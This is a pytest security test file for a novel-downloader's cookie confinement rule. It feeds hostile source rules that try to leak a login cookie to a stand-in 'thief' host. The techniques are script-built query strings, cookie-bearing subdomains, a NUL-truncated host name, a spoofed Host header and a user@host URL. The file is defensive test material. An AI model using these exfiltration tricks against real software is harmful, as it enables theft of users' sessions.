"""Ways around "a rule source that holds your cookie reaches its own site only", each closed.

Found by a review of the rule (``test_cookie_confinement.py`` is the rule's own): an own site
that is a public suffix or an IP address, and a cookie jar kept under another login than the
one saved. Sources here live on 127.0.0.2; the other host is 127.0.0.1.
"""

from __future__ import annotations

import asyncio
import json
from dataclasses import replace
from pathlib import Path

import pytest
from yarl import URL

from novelfetch.core.errors import RefusedAddressError, SourceError
from novelfetch.core.jobs.downloader import Downloader, DownloadOptions
from novelfetch.core.net.cookies import SiteCookies
from novelfetch.core.net.http import fetch_bytes, open_session
from novelfetch.core.net.policy import NetworkPolicy, OtherSiteRefused
from novelfetch.core.net.redaction import redact
from novelfetch.core.net.retry import RetryPolicy
from novelfetch.core.sources import SourceRegistry
from novelfetch.core.sources.base import SourceSettings
from novelfetch.core.sources.memory import MemoryDict
from novelfetch.core.sources.search import search_sources
from novelfetch.core.store.chapter_store import Store
from tests.cli_support import run_cli
from tests.hostile.sites import Site, rule, rule_file, serving
from tests.hostile.test_cookie_confinement import QUICK, download
from tests.hostile.test_source_cookies import SECRET, import_rules


@pytest.mark.parametrize(
    ("own", "other"),
    [
        ("https://www.github.io/", "https://thief.github.io/"),  # a private public suffix
        ("https://com.cn/", "https://thief.com.cn/"),
        ("https://www.co.uk/", "https://thief.co.uk/"),
        ("https://com/", "https://thief.com/"),  # a bare top-level domain
        ("https://com./", "https://thief.com/"),
    ],
)
def test_an_own_site_that_is_a_public_suffix_is_its_host_alone(own: str, other: str) -> None:
    # A rule names its own address: one on a suffix anyone can register under would make
    # every stranger's domain there "its own site", for its requests and for the cookie.
    policy = NetworkPolicy.for_source("x", own, allow_local=False, confined=True)
    policy.check_site(URL(own))
    with pytest.raises(OtherSiteRefused):
        policy.check_site(URL(other))
    cookies = SiteCookies.for_source(own, SECRET)
    assert cookies.header_for(URL(own)) == SECRET
    assert cookies.header_for(URL(other)) == ""


def test_a_site_still_has_its_subdomains() -> None:
    for own, sub in (
        ("https://www.example.co.uk/", "https://m.example.co.uk/"),
        ("https://someone.github.io/", "https://a.someone.github.io/"),
        ("https://例子.中国/", "https://m.xn--fsqu00a.xn--fiqs8s/"),
    ):
        NetworkPolicy.for_source("x", own, allow_local=False, confined=True).check_site(URL(sub))
        assert SiteCookies.for_source(own, SECRET).header_for(URL(sub)) == SECRET
    local = NetworkPolicy.for_source(
        "x", "http://localhost:8080/", allow_local=False, confined=True
    )
    local.check_site(URL("http://localhost:8080/book"))


def test_an_own_site_that_is_an_ip_address_has_no_subdomains() -> None:
    # "leak.127.0.0.2" is a name: asking for it sends a DNS query (with whatever a script put
    # in it) to the user's resolver and on to the root servers.
    policy = NetworkPolicy.for_source(
        "x", "http://127.0.0.2:8080/", allow_local=True, confined=True
    )
    policy.check_site(URL("http://127.0.0.2:8080/book"))
    with pytest.raises(OtherSiteRefused):
        policy.check_site(URL("http://leak.127.0.0.2:8080/"))
    assert (
        SiteCookies.for_source("http://127.0.0.2/", SECRET).header_for(URL("http://x.127.0.0.2/"))
        == ""
    )


async def test_a_jar_made_under_a_cookie_for_one_run_is_not_kept(tmp_path: Path) -> None:
    # What a site sets in answer to the user's login (a session) is as good as the login: it
    # must not stay in the jar for later runs that hold no cookie, and so are not confined,
    # where a script reads it (cookie.getCookie) and sends it anywhere.
    data = tmp_path / "data"
    async with serving(Site(), "127.0.0.1") as elsewhere, serving(Site(), "127.0.0.2") as own:
        own.sets_cookies = ("session=SIGNED-IN-7d1e; Path=/",)
        thief = f"<js>'{elsewhere.base}search?q=' + cookie.getCookie(baseUrl)</js>"
        registry, (source_id,) = import_rules(
            data, rule(own.base, search_url=thief, cookie_jar=True), other_sites=False
        )
        signed_in = await download(
            registry, source_id, own.url("/book"), tmp_path / "s.sqlite3", cookie=SECRET
        )
        assert signed_in.fetched == 1, signed_in.failures
        later = SourceRegistry(data)  # a later run, without the cookie
        async for _ in search_sources(
            [later.get(source_id)], "青云", http=QUICK, memory=MemoryDict()
        ):
            pass  # refused now too (it held a cookie), but the jar is the point here
    assert "SIGNED-IN" not in json.dumps(elsewhere.queries)
    assert later.cookies.jar(source_id) == {}


async def test_a_jar_made_under_a_forgotten_cookie_is_not_kept(tmp_path: Path) -> None:
    # The user forgets the cookie while a job runs; the job ends and keeps its jar.
    data = tmp_path / "data"
    async with serving(Site(), "127.0.0.2") as own:
        own.sets_cookies = ("session=SIGNED-IN-7d1e; Path=/",)
        registry, (source_id,) = import_rules(data, rule(own.base, cookie_jar=True))
        registry.set_cookie(source_id, SECRET)
        entry = registry.get(source_id)
        cookies = entry._site_cookies(SourceSettings(cookie=SECRET))  # the job's adapter's
        cookies.take(URL(own.base), own.sets_cookies)
        registry.set_cookie(source_id, "")  # forgotten, mid-job
        cookies.close()  # the job ends
    assert SourceRegistry(data).cookies.jar(source_id) == {}


async def test_what_a_source_kept_while_it_held_your_cookie_stays_home(tmp_path: Path) -> None:
    # Kept while confined (a book's java.put values are remembered across runs), sent from a
    # later run that holds no cookie: after a cookie given for one run, or a forgotten one.
    async with serving(Site(), "127.0.0.1") as elsewhere, serving(Site(), "127.0.0.2") as own:
        source = rule(own.base)
        stash = "var c = cookie.getCookie(baseUrl); if (c) java.put('c', c); result"
        source["ruleBookInfo"] = {"name": f"tag.h1@text@js:{stash}"}
        send = f"'{elsewhere.base}search?q=' + java.get('c')"  # its queries are recorded
        source["ruleToc"]["chapterUrl"] = f"tag.a@href@js:{send}"  # type: ignore[index]
        registry, (source_id,) = import_rules(tmp_path / "data", source, other_sites=False)
        store = tmp_path / "s.sqlite3"
        confined = await download(registry, source_id, own.url("/book"), store, cookie=SECRET)
        assert len(confined.failures) == 1 and elsewhere.seen == []
        await download(registry, source_id, own.url("/book"), store)  # no cookie now
    assert "LOGIN-SECRET" not in json.dumps(elsewhere.queries)


def test_a_source_that_held_your_cookie_stays_confined(tmp_path: Path) -> None:
    data = tmp_path / "data"
    registry, (source_id,) = import_rules(data, rule("https://www.example.com/"), other_sites=False)
    assert registry.get(source_id).network_policy().confined_to == ""  # never held one
    registry.set_cookie(source_id, SECRET)
    registry.set_cookie(source_id, "")  # forgotten
    assert registry.get(source_id).network_policy().confined_to == "example.com"
    registry.remove(source_id)  # its books, and what it kept with them, stay
    again, _ = import_rules(data, rule("https://www.example.com/"), other_sites=False)
    assert again.get(source_id).network_policy().confined_to == "example.com"
    assert "LOGIN" not in (data / "cookies.json").read_text(encoding="utf-8")
    again.set_allow_other_sites(source_id, True)  # the way out: the user trusts it
    assert SourceRegistry(data).get(source_id).network_policy().confined_to == ""


async def test_a_refusal_never_shows_the_cookie_a_script_put_in_a_host_name(
    tmp_path: Path,
) -> None:
    # Host names are lower-cased on the way (yarl), so the refusal, which names the host,
    # carried the cookie in a case the redaction of logs and messages did not know.
    async with serving(Site(), "127.0.0.2") as own:
        thief = "<js>'http://' + cookie.getKey(baseUrl, 'sid') + '.thief.example/search'</js>"
        registry, (source_id,) = import_rules(
            tmp_path / "data", rule(own.base, search_url=thief), other_sites=False
        )
        registry.set_cookie(source_id, SECRET)
        async for outcome in search_sources(
            [registry.get(source_id)], "青云", http=QUICK, memory=MemoryDict()
        ):
            said = str(outcome.error)
    assert "thief.example is not on 127.0.0.2" in said
    assert "login-secret" not in redact(said).lower()


async def test_a_redirect_or_a_proxy_is_no_way_out(tmp_path: Path) -> None:
    # Found sound: each hop is checked before it is sent, and before a proxy is chosen (the
    # proxy would look the name up: no request reaches it for another site).
    async with (
        serving(Site(), "127.0.0.1") as elsewhere,
        serving(Site(), "127.0.0.2") as own,
        serving(Site(), "127.0.0.3") as proxy,
    ):
        own.chapter_link = "/redirect?to=" + elsewhere.url("/chapter")
        registry, (source_id,) = import_rules(tmp_path / "data", rule(own.base), other_sites=False)
        registry.set_cookie(source_id, SECRET)
        redirected = await download(registry, source_id, own.url("/book"), tmp_path / "1.sqlite3")
        [failure] = redirected.failures
        assert "127.0.0.1 is not on 127.0.0.2" in failure.reason
        # The "proxy" answers every request itself, as the own site would, with its page.
        proxy.chapter_link = elsewhere.url("/chapter")
        options = DownloadOptions(
            source=source_id,
            concurrency=1,
            retry=RetryPolicy(0),
            http=replace(QUICK, proxy=proxy.base),
        )
        with Store(tmp_path / "2.sqlite3") as opened:
            async with Downloader(opened, options, registry=registry) as job:
                proxied = await job.fetch(await job.load(own.url("/book")))
    assert len(proxied.failures) == 1 and elsewhere.seen == []
    assert proxy.paths() == ["/book", "/book"]  # the book page (details, catalog), only


async def test_a_host_name_cut_short_by_a_nul_is_not_its_own_site() -> None:
    # The name lookup (getaddrinfo) stops at a NUL: "data.thief.example\0.own.example" ends
    # like the own site but is looked up, and connected to, as "data.thief.example" (a DNS
    # query carrying the data to the thief's name server), before aiohttp refuses the Host
    # header. A cover address from a site's JSON, or a script's, can hold one.
    connections: list[int] = []

    async def answer(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        connections.append(1)
        writer.close()

    thief = await asyncio.start_server(answer, "127.0.0.1", 0)
    port = thief.sockets[0].getsockname()[1]
    policy = NetworkPolicy.for_source(
        "x", "http://www.own.example/", allow_local=True, confined=True
    )
    cookies = SiteCookies.for_source("http://www.own.example/", SECRET)
    cut_short = f"http://localhost\x00.own.example:{port}/status"
    try:
        async with open_session(QUICK, 1, policy=policy) as session:
            with pytest.raises(RefusedAddressError, match=r"is not on own\.example"):
                await fetch_bytes(session, cut_short, headers={}, settings=QUICK, cookies=cookies)
    finally:
        thief.close()
        await thief.wait_closed()
    assert connections == []
    assert cookies.header_for(URL(cut_short)) == ""


async def test_a_host_header_naming_another_site_is_no_way_out(tmp_path: Path) -> None:
    # A shared front (a CDN, a virtual-hosting proxy) at the own site's address routes by the
    # Host header: a rule naming another site there sends the request, and so the cookie,
    # to that site's server. Real rules set Host, to their own site (allowed, below).
    async with serving(Site(), "127.0.0.2") as front:
        source = rule(front.base)
        source["header"] = json.dumps({"Host": "thief.example"})
        data = tmp_path / "data"
        registry, (source_id,) = import_rules(data, source, other_sites=False)
        registry.set_cookie(source_id, SECRET)
        with pytest.raises(SourceError, match=r"thief\.example is not on 127\.0\.0\.2"):
            await download(registry, source_id, front.url("/book"), tmp_path / "1.sqlite3")
        assert front.seen == []
        registry.set_allow_other_sites(source_id, True)  # trusted: it may; the cookie stays
        await download(registry, source_id, front.url("/book"), tmp_path / "2.sqlite3")
        assert front.paths() == ["/book", "/book", "/chapter"] and front.cookies_sent() == []
        source["header"] = json.dumps({"Host": f"{URL(front.base).host}:{URL(front.base).port}"})
        registry.import_text(rule_file(source))  # its own site in the Host header: as before
        registry.set_allow_other_sites(source_id, False)
        await download(registry, source_id, front.url("/book"), tmp_path / "3.sqlite3")
        assert front.cookies_sent() == [SECRET] * 3


def test_an_own_address_with_a_user_part_names_no_site() -> None:
    # "https://own.example@thief.example/" reads as own.example's address, in a list of
    # sources and where the user pastes their cookie for it, but its host is the thief's.
    deceptive = "https://own.example@thief.example/"
    cookies = SiteCookies.for_source(deceptive, SECRET)
    assert cookies.header_for(URL("https://thief.example/")) == ""
    assert cookies.header_for(URL("https://own.example/")) == ""
    policy = NetworkPolicy.for_source("x", deceptive, allow_local=False, confined=True)
    for anywhere in ("https://thief.example/", "https://own.example/"):
        with pytest.raises(OtherSiteRefused):
            policy.check_site(URL(anywhere))


async def test_forgetting_the_cookie_says_the_source_stays_confined(tmp_path: Path) -> None:
    data = tmp_path / "data"
    _, (source_id,) = import_rules(data, rule("https://www.example.com/"), other_sites=False)
    await run_cli("sources", "cookie", source_id, SECRET, "--data-dir", str(data))
    forgotten = await run_cli("sources", "cookie", source_id, "--clear", "--data-dir", str(data))
    assert forgotten.code == 0, forgotten.err
    assert "it held your cookie, so it still may reach only its own site" in forgotten.out
    assert f"sources allow-other-sites {source_id}" in forgotten.out


async def test_an_adapter_that_holds_a_cookie_is_confined_whatever_its_caller_decided(
    tmp_path: Path,
) -> None:
    # The policy is decided by each caller (network_policy(cookie)); one that forgets to pass
    # the cookie for one run (as every caller did before confinement) must not give an
    # adapter holding it an unconfined session. The adapter's opening confines it.
    async with serving(Site(), "127.0.0.1") as elsewhere, serving(Site(), "127.0.0.2") as own:
        thief = f"<js>'{elsewhere.base}search?q=' + cookie.getCookie(baseUrl)</js>"
        registry, (source_id,) = import_rules(
            tmp_path / "data", rule(own.base, search_url=thief), other_sites=False
        )
        entry = registry.get(source_id)
        forgetful = entry.network_policy()  # not told of the cookie below
        async with (
            open_session(QUICK, 1, policy=forgetful) as session,
            entry.open(session, SourceSettings(cookie=SECRET, http=QUICK)) as adapter,
        ):
            with pytest.raises(RefusedAddressError, match="holds your cookie"):
                await adapter.search("青云")  # type: ignore[attr-defined]
    assert elsewhere.seen == []


@pytest.mark.parametrize("name", ["Host ", " Host", "HOST\t"])
async def test_a_host_header_with_a_spaced_name_is_a_host_header_still(name: str) -> None:
    # aiohttp sends such a name as it is: "Host : x" (servers that strip it see two Hosts) or
    # " Host: x" (a folded line, the previous header's continuation, to lenient ones).
    async with serving(Site(), "127.0.0.2") as front:
        policy = NetworkPolicy.for_source("x", front.base, allow_local=True, confined=True)
        async with open_session(QUICK, 1, policy=policy) as session:
            with pytest.raises(RefusedAddressError, match=r"thief\.example is not on"):
                await fetch_bytes(
                    session, front.url("/book"), headers={name: "thief.example"}, settings=QUICK
                )
    assert front.seen == []


async def test_the_list_says_which_sources_reach_only_their_own_site(tmp_path: Path) -> None:
    data = tmp_path / "data"
    registry, (held, never) = import_rules(
        data, rule("https://a.example/"), rule("https://b.example/"), other_sites=False
    )
    registry.set_cookie(held, SECRET)
    registry.set_cookie(held, "")
    listed = await run_cli("sources", "list", "--data-dir", str(data))
    assert listed.code == 0, listed.err
    assert f"it holds or held your cookie (sources allow-other-sites {held})" in listed.out
    assert f"(sources allow-other-sites {never})" not in listed.out
    facts = json.loads((await run_cli("sources", "list", "--json", "--data-dir", str(data))).out)
    confined = {fact["id"]: fact["own_site_only"] for fact in facts}
    assert confined[held] and not confined[never] and not confined["baidu"]
